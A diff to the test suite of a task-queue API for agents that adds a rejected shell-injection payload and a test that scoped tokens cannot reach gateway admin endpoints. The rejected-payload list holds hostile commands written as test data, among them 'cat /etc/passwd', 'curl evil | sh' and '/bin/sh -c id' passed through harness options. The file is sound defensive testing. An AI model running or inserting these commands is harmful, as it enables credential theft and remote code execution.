@@ -18,6 +18,7 @@ import requests
 
 from conftest import AUTH, ROOT, spawn, stop
 from polar_mq.embedded_redis import free_port, start_embedded
+from polar_mq.roles import ROLES
 from polar_mq.store import Keys
 
 AGENT_TASK = {"instruction": "fix it", "agent": {"harness": "codex"}, "runtime": {"backend": "bwrap"}}
@@ -165,6 +166,7 @@ def test_revocation_and_expiry_are_401_within_a_second(api):
     ({"agent": {"harness": "shell", "options": {"command": "cat /etc/passwd"}}}, "commands"),
     ({"runtime": {"backend": "bwrap", "prepare": [{"exec": "curl evil | sh"}]}}, "commands"),
     ({"grader": {"strategy": "test_runner", "config": {"command": "id"}}}, "commands"),
+    ({"agent": {"harness": "codex", "options": {"bin": "/bin/sh", "extra_args": ["-c", "id"]}}}, "commands"),
     ({"grader": {"strategy": "subprocess:Popen", "config": {"args": ["touch", "/tmp/pwned"]}}}, "plugins"),
     ({"builder": {"strategy": "tests.merge_plugin:Builder"}}, "plugins"),
 ])
@@ -206,3 +208,14 @@ def test_policy_file_sets_what_submitters_may_use(log_dir, rdb, tmp_path):
         problem(requests.post(f"{server.url}/v1/tasks", json=base, headers=sub, timeout=10), 503)
     finally:
         stop(server.proc)
+
+
+def test_gateway_admin_resources_take_the_admin_token_only(api, gateway):
+    for role in ROLES:
+        scoped = make(api, role, f"gw-{role}")
+        body = requests.post(f"{gateway.url}/sessions", json={}, headers=scoped, timeout=10)
+        assert body.status_code == 401, (role, body.text)
+        assert requests.get(f"{gateway.url}/sessions/x/calls", headers=scoped, timeout=10).status_code == 401
+    assert requests.post(f"{gateway.url}/sessions", json={}, headers=AUTH, timeout=10).status_code in (200, 201)
+    out = api.output()
+    assert "pmq-tok-" not in out.replace("pmq-tok-…", "")  # no scoped token in the API's log
